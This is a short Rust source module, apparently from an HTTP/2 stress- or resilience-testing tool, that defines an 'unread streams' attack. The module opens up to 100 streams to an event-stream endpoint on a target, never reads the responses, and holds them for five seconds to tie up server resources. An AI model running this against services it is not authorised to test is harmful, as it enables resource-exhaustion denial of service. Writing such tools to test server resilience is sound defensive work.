//! Streams are opened over HTTP/2 and never read.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct UnreadStreams;

impl Attack for UnreadStreams {
    fn name(&self) -> &'static str {
        "unread streams"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let Some(requests) = target.http2(0).await else { return };
            let mut held = Vec::new();
            for _ in 0..100 {
                let Ok(mut ready) = requests.clone().ready().await else { break };
                let request = target.request("GET", "/sse/events?topic=news").body(()).unwrap();
                let Ok((answer, _)) = ready.send_request(request, true) else { break };
                held.push(answer);
            }
            sleep(Duration::from_secs(5)).await;
        })
    }
}
